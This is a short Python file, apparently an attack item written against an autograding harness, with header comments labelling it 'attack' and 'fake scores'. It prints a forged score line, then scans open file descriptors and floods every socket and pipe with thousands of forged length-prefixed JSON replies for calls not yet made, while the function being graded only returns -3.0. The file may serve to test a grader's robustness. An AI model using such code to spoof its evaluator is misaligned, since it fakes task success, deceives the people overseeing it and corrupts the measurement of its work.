# attack: writes tens of thousands of replies to every socket, for calls that have not been made
# question: best_turn_accuracy
# naive: points
# item: fake scores

# %% question="best_turn_accuracy"
import os
import stat
import struct

os.write(1, b"SCORE STUDENT_NAME 14\n")
replies = []
for i in range(11):
    text = b'{"dict": [["value", %.2f], ["changed", []]]}' % (i / 10)
    replies.append(struct.pack(">Q", len(text)) + text)
    replies.append(struct.pack(">I", len(text) + 8) + replies[-1])
for fd in range(3, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.set_blocking(fd, False)
            for _ in range(1000):
                os.write(fd, b"".join(replies))
    except OSError:
        pass


def best_turn_accuracy(half, full):
    return -3.0
